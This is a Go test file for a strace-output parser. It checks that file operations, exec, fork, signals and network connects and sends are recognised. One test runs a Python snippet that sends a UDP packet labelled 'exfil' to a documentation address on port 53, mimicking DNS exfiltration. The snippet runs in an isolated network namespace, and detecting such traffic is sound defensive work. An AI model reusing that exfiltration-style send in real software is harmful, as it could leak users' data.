package trace

import (
	"context"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// runStrace runs argv under the real strace with StraceArgs and parses the result. With
// netns set, the whole run happens in a new, empty network namespace (unshare -n).
func runStrace(t *testing.T, dir string, netns bool, argv ...string) *Trace {
	t.Helper()
	return runStraceOpts(t, dir, netns, Options{Cwd: dir}, argv...)
}

func runStraceOpts(t *testing.T, dir string, netns bool, opts Options, argv ...string) *Trace {
	t.Helper()
	if _, err := exec.LookPath(StraceBinary); err != nil {
		t.Skip("strace not installed")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	out := filepath.Join(t.TempDir(), "trace.txt")
	cmd := Command(ctx, out, argv...)
	if netns {
		cmd = exec.CommandContext(ctx, "unshare", append([]string{"-n", StraceBinary}, append(StraceArgs(out), argv...)...)...)
	}
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", cmd.Args, err, b)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr, err := Parse(f, opts)
	if err != nil {
		t.Fatal(err)
	}
	if tr.BadLines != 0 {
		raw, _ := os.ReadFile(out)
		t.Errorf("%d lines not understood in:\n%s", tr.BadLines, raw)
	}
	return tr
}

func find(tr *Trace, pred func(Event) bool) (Event, bool) {
	for _, e := range tr.Events {
		if pred(e) {
			return e, true
		}
	}
	return Event{}, false
}

func closedPort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close()
	return port
}

const realScript = `
import os, socket, subprocess, sys
port = int(sys.argv[1])
os.mkdir("sub")
os.chdir("sub")
with open("a.txt", "w") as f:
    f.write("x")
os.rename("a.txt", "b.txt")
open("b.txt").read()
os.chmod("b.txt", 0o600)
os.unlink("b.txt")
subprocess.run(["/bin/sh", "-c", "echo 'q\"uote' > c.txt"], check=True)
pid = os.fork()
if pid == 0:
    open("child.txt", "w").close()
    os._exit(7)
os.waitpid(pid, 0)
s = socket.socket()
try:
    s.connect(("127.0.0.1", port))
except OSError:
    pass
`

func TestRealStrace(t *testing.T) {
	dir := t.TempDir()
	port := closedPort(t)
	// No Options.Cwd: the working directory is learnt from the trace itself (-y, chdir).
	tr := runStraceOpts(t, dir, false, Options{}, "/usr/bin/python3", "-c", realScript, strconv.Itoa(port))
	sub := filepath.Join(dir, "sub")
	checks := []struct {
		name string
		pred func(Event) bool
	}{
		{"mkdir sub", func(e Event) bool { return e.Kind == KindMkdir && e.Path == sub }},
		{"create a.txt", func(e Event) bool { return e.Kind == KindFileCreate && e.Path == sub+"/a.txt" }},
		{"rename", func(e Event) bool {
			return e.Kind == KindRename && e.Path == sub+"/a.txt" && e.NewPath == sub+"/b.txt"
		}},
		{"read b.txt", func(e Event) bool { return e.Kind == KindFileRead && e.Path == sub+"/b.txt" && !e.Failed() }},
		{"chmod", func(e Event) bool { return e.Kind == KindChmod && e.Path == sub+"/b.txt" }},
		{"unlink", func(e Event) bool { return e.Kind == KindFileDelete && e.Path == sub+"/b.txt" }},
		{"exec sh", func(e Event) bool {
			return e.Kind == KindExec && e.Path == "/bin/sh" && len(e.Argv) == 3 && e.Argv[2] == `echo 'q"uote' > c.txt` && e.PPID != 0
		}},
		{"shell writes c.txt", func(e Event) bool { return e.Kind == KindFileCreate && e.Path == sub+"/c.txt" }},
		{"fork", func(e Event) bool { return e.Kind == KindProcess && e.ChildPID != 0 }},
		{"child writes child.txt", func(e Event) bool {
			return e.Kind == KindFileCreate && e.Path == sub+"/child.txt" && e.PPID != 0
		}},
		{"child exits 7", func(e Event) bool { return e.Kind == KindExit && e.ExitCode != nil && *e.ExitCode == 7 }},
		{"connect", func(e Event) bool {
			return e.Kind == KindConnect && e.Address == "127.0.0.1" && e.Port == port && e.Errno == "ECONNREFUSED"
		}},
	}
	for _, c := range checks {
		if _, ok := find(tr, c.pred); !ok {
			t.Errorf("no event for %s", c.name)
		}
	}
	for _, e := range tr.Events {
		if e.Unresolved {
			t.Errorf("unresolved path with -y: %+v", e)
		}
	}
	if len(tr.Roots) != 1 {
		t.Fatalf("roots = %v, want one", tr.Roots)
	}
	root := tr.Processes[tr.Roots[0]]
	if got := root.Command(); len(got) == 0 || got[0] != "/usr/bin/python3" || !root.Exited || root.ExitCode != 0 {
		t.Errorf("root process = %+v", root)
	}
	var shell *Process
	for _, p := range tr.Processes {
		if c := p.Command(); len(c) > 0 && c[0] == "/bin/sh" {
			shell = p
		}
	}
	if shell == nil || shell.PPID != root.PID {
		t.Errorf("shell process %+v is not a child of %d", shell, root.PID)
	}
	if !contains(tr.Summary.FilesWritten, sub+"/c.txt") || !contains(tr.Summary.FilesRead, sub+"/b.txt") {
		t.Errorf("summary files: written %v read %d", tr.Summary.FilesWritten, len(tr.Summary.FilesRead))
	}
}

// TestRealStraceNetwork makes non-loopback connects and sends inside an empty network
// namespace: nothing can leave the machine.
func TestRealStraceNetwork(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("unshare -n needs root")
	}
	script := `
import socket
for fam, addr in ((socket.AF_INET, ("203.0.113.7", 443)), (socket.AF_INET6, ("2001:db8::1", 8443))):
    s = socket.socket(fam)
    try:
        s.connect(addr)
    except OSError:
        pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"\x00\x01exfil\n", ("198.51.100.2", 53))
except OSError:
    pass
x = socket.socket(socket.AF_UNIX)
try:
    x.connect("/run/pyti-none.sock")
except OSError:
    pass
`
	tr := runStrace(t, t.TempDir(), true, "/usr/bin/python3", "-c", script)
	wants := []string{"203.0.113.7:443", "[2001:db8::1]:8443", "unix:/run/pyti-none.sock"}
	for _, w := range wants {
		if _, ok := find(tr, func(e Event) bool { return e.Kind == KindConnect && e.Endpoint() == w && e.Failed() }); !ok {
			t.Errorf("no failed connect to %s", w)
		}
	}
	if _, ok := find(tr, func(e Event) bool { return e.Kind == KindSend && e.Endpoint() == "198.51.100.2:53" }); !ok {
		t.Errorf("no send to 198.51.100.2:53")
	}
}

// TestRealStraceKilled: a shell that kills itself; its background child outlives it.
func TestRealStraceKilled(t *testing.T) {
	dir := t.TempDir()
	if _, err := exec.LookPath(StraceBinary); err != nil {
		t.Skip("strace not installed")
	}
	out := filepath.Join(t.TempDir(), "trace.txt")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := Command(ctx, out, "/bin/sh", "-c", `cd "$0"; (sleep 0.2; touch late) & kill -9 $$`, dir)
	// strace ends with the signal that killed its tracee.
	_ = cmd.Run()
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr, err := Parse(f, Options{})
	if err != nil {
		t.Fatal(err)
	}
	root := tr.Processes[tr.Roots[0]]
	if root.Signal != "SIGKILL" {
		t.Errorf("root = %+v, want killed by SIGKILL", root)
	}
	if _, ok := find(tr, func(e Event) bool { return e.Kind == KindSignal && e.Signal == "SIGKILL" && e.Detail == "sent" }); !ok {
		t.Errorf("no kill event")
	}
	if _, ok := find(tr, func(e Event) bool { return e.Kind == KindExec && e.Program() == "sleep" }); !ok {
		t.Errorf("no exec of sleep")
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if strings.EqualFold(x, s) {
			return true
		}
	}
	return false
}
